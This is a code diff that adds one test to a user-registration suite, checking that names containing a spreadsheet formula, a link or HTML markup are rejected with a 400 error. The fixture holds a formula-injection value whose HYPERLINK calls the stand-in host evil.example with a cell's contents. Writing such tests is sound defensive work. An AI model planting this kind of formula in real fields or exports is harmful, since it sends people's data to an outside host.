@@ -328,6 +328,15 @@ describe("registration through the invite", () => {
     }
   });
 
+  test("a name that is no name (a formula, a link, markup) is refused: it would reach the employer's email under our name", async () => {
+    const res = await save({ firstName: '=HYPERLINK("http://evil.example/?x="&A2,"Click")', lastName: "<b>Kim</b>" });
+    expect(res.status).toBe(400);
+    expect((await res.json()).errors).toEqual({
+      firstName: "First name can hold only letters, spaces, hyphens, apostrophes and periods",
+      lastName: "Last name can hold only letters, spaces, hyphens, apostrophes and periods",
+    });
+  });
+
   test("the final submit needs every field: the missing ones are named", async () => {
     const res = await save({ submit: true, firstName: "Maria" });
     expect(res.status).toBe(400);
